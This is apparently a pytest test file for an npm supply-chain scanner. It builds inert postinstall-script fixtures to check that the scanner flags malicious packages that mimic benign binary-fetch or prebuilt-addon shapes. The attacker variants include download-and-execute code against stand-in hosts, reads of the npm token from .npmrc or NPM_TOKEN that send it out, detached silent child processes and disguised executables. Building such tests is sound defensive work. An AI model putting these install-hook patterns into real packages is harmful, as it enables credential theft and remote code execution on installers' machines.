"""Benign install shapes weigh less only within bounds (analysis/install_profile.py): an attacker
who reuses the shape of a platform-binary fetch (esbuild) or of a prebuilt addon set (bcrypt)
to carry a payload is still flagged. Every fixture is inert and written here."""

from __future__ import annotations

import json
import struct
from typing import Any

import pytest

from chainwatch.analysis.install_profile import library_format
from chainwatch.model import Level, PackageRef, Verdict
from chainwatch.scan import Loaded, Scanner, scan_snippet_files

SCANNER = Scanner(None, workers=1)

FETCH = """'use strict';
const https = require("https");
const fs = require("fs");
const path = require("path");
const child_process = require("child_process");
const pkg = require("./package.json");
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
async function main() {
  const name = `${process.platform}-${process.arch}`;
  const url = URL_HERE;
  const bin = path.join(__dirname, "bin", process.platform === "win32" ? "tool.exe" : "tool");
  EXTRA
  fs.writeFileSync(bin, await fetch(url));
  fs.chmodSync(bin, 0o755);
  child_process.execFileSync(bin, ["--version"]);
}
main();
"""
REGISTRY_URL = "`https://registry.npmjs.org/@left-tool/${name}/-/${name}-${pkg.version}.tgz`"


def manifest(version: str, scripts: dict[str, str]) -> str:
    return json.dumps({
        "name": "left-tool", "version": version, "main": "index.js", "scripts": scripts,
        "repository": {"type": "git", "url": "git+https://github.com/example/left-tool.git"},
        "optionalDependencies": {"@left-tool/linux-x64": version, "@left-tool/darwin-arm64": version},
    })


def package(version: str, url: str = REGISTRY_URL, extra: str = "",
            scripts: dict[str, str] | None = None) -> dict[str, str | bytes]:
    hooks = {"postinstall": "node install.js"} if scripts is None else scripts
    return {"package.json": manifest(version, hooks), "index.js": "module.exports = 1;\n",
            "install.js": FETCH.replace("URL_HERE", url).replace("EXTRA", extra)}


def packument(earlier_scripts: dict[str, str]) -> dict[str, Any]:
    return {"name": "left-tool", "versions": {
        "1.0.0": {"name": "left-tool", "version": "1.0.0", "scripts": earlier_scripts},
        "1.0.1": {"name": "left-tool", "version": "1.0.1",
                  "scripts": {"postinstall": "node install.js"}}},
        "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.0.1": "2025-06-01T00:00:00Z"}}


def alone(files: dict[str, str | bytes], earlier: dict[str, str] | None = None) -> Verdict:
    """Judged without a baseline: with the registry's history when ``earlier`` (the previous
    release's scripts) is given, as a verified registry release; else as an unknown tarball."""
    target = Loaded(PackageRef("left-tool", "1.0.1"), scan_snippet_files(files))
    if earlier is not None:
        target = Loaded(target.ref, target.files, packument=packument(earlier), verified=True)
    return SCANNER.analyze(target, None)


def pair(before: dict[str, str | bytes], after: dict[str, str | bytes]) -> Verdict:
    return SCANNER.analyze(Loaded(PackageRef("left-tool", "1.0.1"), scan_snippet_files(after)),
                           Loaded(PackageRef("left-tool", "1.0.0"), scan_snippet_files(before)))


def rules(v: Verdict) -> set[str]:
    return {f.rule for f in v.findings}


SAME_HOOK = {"postinstall": "node install.js"}


# -- the bounded shape ---------------------------------------------------------------------
def test_platform_binary_fetch_with_unchanged_hook_and_registry_host_is_benign() -> None:
    v = alone(package("1.0.1"), SAME_HOOK)
    assert v.level is Level.BENIGN, v.explanation
    assert "CW-INSTALL-PLATFORM-BINARY" in rules(v)
    assert "CW-DROPPER-DOWNLOAD-EXEC" in rules(v)  # the evidence is kept, weighed low


def test_the_same_fetch_without_registry_history_is_still_suspicious() -> None:
    v = alone(package("1.0.1"))
    assert v.level is not Level.BENIGN
    assert "CW-INSTALL-PLATFORM-BINARY" not in rules(v)


# -- an attacker in the same shape ---------------------------------------------------------
@pytest.mark.parametrize(("url", "extra"), [
    # the binary comes from the attacker's host
    ('"https://cdn.example.invalid/tool-" + name', ""),
    # from the npm registry, but another package's tarball (a second stage published apart)
    ('"https://registry.npmjs.org/stage-two/-/stage-two-1.0.0.tgz"', ""),
    # a host built in code
    ("`https://${process.env.MIRROR_HOST}/tool`", ""),
    # a raw IP beside the registry URL
    (REGISTRY_URL, 'https.get({ host: "192.0.2.44", path: "/c" });'),
    # a bare host name handed to https.get
    (REGISTRY_URL, 'https.get({ hostname: "c2.example.invalid", path: "/" + name });'),
    # GitHub, but not the repository the manifest declares
    ('"https://github.com/other-owner/tools/releases/download/v1/tool"', ""),
    # the same shape that also reads the npm token
    (REGISTRY_URL, 'const t = fs.readFileSync(path.join(require("os").homedir(), ".npmrc"), "utf8");'),
    # ...or starts a detached, silent process
    (REGISTRY_URL, 'child_process.spawn(bin, [], { detached: true, stdio: "ignore" }).unref();'),
])
def test_payload_in_the_fetch_shape_is_still_flagged(url: str, extra: str) -> None:
    v = alone(package("1.0.1", url, extra), SAME_HOOK)
    assert v.level is not Level.BENIGN, v.explanation
    assert "CW-INSTALL-PLATFORM-BINARY" not in rules(v)


@pytest.mark.parametrize("earlier", [
    {},                                                  # the hook is new in this release
    {"postinstall": "node install.js --quiet"},          # the hook changed
    {"postinstall": "node install.js", "preinstall": "node check.js"},  # a hook went away
])
def test_a_new_or_changed_hook_is_never_relaxed(earlier: dict[str, str]) -> None:
    v = alone(package("1.0.1"), earlier)
    assert v.level is not Level.BENIGN, v.explanation
    assert "CW-INSTALL-PLATFORM-BINARY" not in rules(v)


def test_a_changed_hook_command_in_this_release_is_flagged() -> None:
    hooks = {"postinstall": "node install.js && node setup.js"}
    files = {**package("1.0.1", scripts=hooks), "setup.js": "console.log('ok');\n"}
    v = alone(files, SAME_HOOK)
    assert v.level is not Level.BENIGN
    assert "CW-INSTALL-PLATFORM-BINARY" not in rules(v)


# -- release pairs -------------------------------------------------------------------------
def test_a_rewritten_helper_with_the_same_behaviour_does_not_flag() -> None:
    before = package("1.0.0")
    after = package("1.0.1", extra="console.error('[left-tool] fetching ' + url);")
    v = pair(before, after)
    assert v.level is Level.BENIGN, v.explanation


def test_a_changed_helper_contacting_a_new_host_flags() -> None:
    before = package("1.0.0")
    # a host the manifest declares (its own repository), but one the helper never named
    after = package("1.0.1", extra='https.get("https://github.com/example/left-tool/raw/main/x");')
    v = pair(before, after)
    assert v.level is not Level.BENIGN, v.explanation
    assert "CW-INSTALL-PLATFORM-BINARY" not in rules(v)


def test_a_changed_helper_reading_secrets_flags() -> None:
    before = package("1.0.0")
    after = package("1.0.1", extra='const t = process.env.NPM_TOKEN; '
                                   'https.get("https://registry.npmjs.org/@left-tool/x?t=" + t);')
    assert pair(before, after).level is not Level.BENIGN


# -- prebuilt native addons ----------------------------------------------------------------
PLATFORMS = ["linux-x64", "linux-arm64", "linux-arm", "linuxmusl-x64", "darwin-x64",
             "darwin-arm64", "win32-x64", "win32-arm64", "win32-ia32", "freebsd-x64"]


def elf(interp: bool = False) -> bytes:
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + struct.pack("<I", 3 if interp else 1) + bytes(52) + bytes(64)


def macho(filetype: int = 8) -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIIII", 0x0100000C, 0, filetype, 0, 0, 0, 0) \
        + bytes(64)


def pe(dll: bool = True) -> bytes:
    head = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return head + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0,
                                               0x2022 if dll else 0x0022) + bytes(64)


def addon_for(platform: str) -> bytes:
    os_name = platform.split("-")[0]
    return {"darwin": macho(), "win32": pe()}.get(os_name, elf())


def addon_package(**replace_binary: bytes) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {
        "package.json": json.dumps({"name": "hash-native", "version": "6.0.0", "main": "index.js",
                                    "scripts": {"install": "node-gyp-build"},
                                    "dependencies": {"node-gyp-build": "^4.8.0"}}),
        "index.js": "module.exports = require('node-gyp-build')(__dirname);\n"}
    for platform in PLATFORMS:
        files[f"prebuilds/{platform}/hash.node"] = replace_binary.get(platform.replace("-", "_"),
                                                                      addon_for(platform))
    return files


def test_library_format_tells_addons_from_executables() -> None:
    assert library_format(elf()) == "elf" and library_format(elf(interp=True)) is None
    assert library_format(macho()) == "macho" and library_format(macho(filetype=2)) is None
    assert library_format(pe()) == "pe" and library_format(pe(dll=False)) is None


def alone_addons(files: dict[str, str | bytes]) -> Verdict:
    return SCANNER.analyze(Loaded(PackageRef("hash-native", "6.0.0"), scan_snippet_files(files)),
                           None)


def test_one_addon_prebuilt_for_ten_platforms_counts_once() -> None:
    v = alone_addons(addon_package())
    binaries = [f for f in v.findings if f.rule == "CW-DROPPER-BINARY"]
    assert len(binaries) == 1 and "10 platforms" in binaries[0].message
    assert v.level is Level.BENIGN, v.explanation


@pytest.mark.parametrize("swap", [
    {"linux_x64": elf(interp=True)},   # an executable dressed as an addon
    {"linux_arm64": pe()},             # a Windows DLL in a Linux folder
    {"darwin_x64": macho(filetype=2)},  # a Mach-O executable
])
def test_a_disguised_executable_among_the_addons_keeps_every_binary_counted(
        swap: dict[str, bytes]) -> None:
    v = alone_addons(addon_package(**swap))
    assert sum(f.rule == "CW-DROPPER-BINARY" for f in v.findings) == len(PLATFORMS)
    assert v.level is not Level.BENIGN, v.explanation


# -- release pairs: where the binary comes from (CW-DIFF-INSTALL-NEW-HOST) ----------------------
GITHUB_URL = ("`https://github.com/example/left-tool/releases/download/v${pkg.version}/"
              "tool-${name}`")
MIRROR_READ = 'const m = require("./mirror.json");'
MIRROR_URL = "`https://${m.host}${m.path}/tool-${name}`"


def test_a_new_download_host_moved_into_a_data_file_is_malicious_in_a_patch() -> None:
    before = package("1.0.0", GITHUB_URL)
    after = {**package("1.0.1", MIRROR_URL, MIRROR_READ),
             "mirror.json": json.dumps({"host": "dl.tool-cdn.invalid", "path": "/r"})}
    v = pair(before, after)
    assert "CW-DIFF-INSTALL-NEW-HOST" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS, v.explanation


def test_a_changed_data_file_the_install_file_reads_is_a_new_host_too() -> None:
    base = package("1.0.0", MIRROR_URL, MIRROR_READ)
    before = {**base, "mirror.json": json.dumps({"host": "dl.tool-cdn.invalid", "path": "/r"})}
    same = {**package("1.0.1", MIRROR_URL, MIRROR_READ), "mirror.json": before["mirror.json"]}
    assert "CW-DIFF-INSTALL-NEW-HOST" not in rules(pair(before, same))
    moved = {**same, "mirror.json": json.dumps({"host": "192.0.2.7", "path": "/r"})}
    v = pair(before, moved)
    assert "CW-DIFF-INSTALL-NEW-HOST" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS


def test_a_changed_config_file_holding_a_url_counts_for_the_install_file() -> None:
    before = {**package("1.0.0", GITHUB_URL), "config/dl.yml": "base: https://github.com/example/x\n"}
    after = {**package("1.0.1", GITHUB_URL, "console.log(1);"),
             "config/dl.yml": "base: https://dl.tool-cdn.invalid/x\n"}
    assert "CW-DIFF-INSTALL-NEW-HOST" in rules(pair(before, after))


def test_another_github_owner_is_a_new_place() -> None:
    before = package("1.0.0", GITHUB_URL)
    after = package("1.0.1", GITHUB_URL.replace("example/left-tool", "left-release-bot/assets"))
    v = pair(before, after)
    assert "CW-DIFF-INSTALL-NEW-HOST" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS


def test_a_plain_new_host_that_is_downloaded_and_run_is_malicious_in_a_patch() -> None:
    before = package("1.0.0", GITHUB_URL)
    after = package("1.0.1", '"https://dl.tool-cdn.invalid/tool-" + name')
    assert pair(before, after).level is Level.MALICIOUS


def test_a_child_given_the_whole_environment_at_install_is_a_strong_signal() -> None:
    before = package("1.0.0", GITHUB_URL)
    after = package("1.0.1", GITHUB_URL,
                    'child_process.execFileSync(bin, ["--setup"], { env: process.env });')
    v = pair(before, after)
    assert "CW-DIFF-INSTALL-ENV-CHILD" in rules(v), v.explanation
    assert v.level is not Level.BENIGN


def test_a_release_that_keeps_its_place_and_data_file_stays_benign() -> None:
    before = {**package("1.0.0", GITHUB_URL), "README.md": "see https://example.invalid/a\n"}
    after = {**package("1.0.1", GITHUB_URL, "console.error('[left-tool] fetching ' + url);"),
             "README.md": "see https://docs.example.invalid/b\n"}
    v = pair(before, after)
    assert v.level is Level.BENIGN, v.explanation
    assert "CW-DIFF-INSTALL-NEW-HOST" not in rules(v)


def test_an_owner_built_in_code_is_a_new_place_after_a_literal_one() -> None:
    before = package("1.0.0", GITHUB_URL)
    after = package("1.0.1", "`https://github.com/${process.env.TOOL_OWNER}/tool/releases/x`")
    assert "CW-DIFF-INSTALL-NEW-HOST" in rules(pair(before, after))


def test_renaming_the_variable_in_a_registry_path_moves_nothing() -> None:
    before = package("1.0.0", REGISTRY_URL.replace("@left-tool/${name}", "${scope}/${name}"),
                     'const scope = "@left-tool";')
    after = package("1.0.1", REGISTRY_URL.replace("@left-tool/${name}", "${ns}/${name}"),
                    'const ns = "@left-tool";')
    v = pair(before, after)
    assert "CW-DIFF-INSTALL-NEW-HOST" not in rules(v), v.explanation
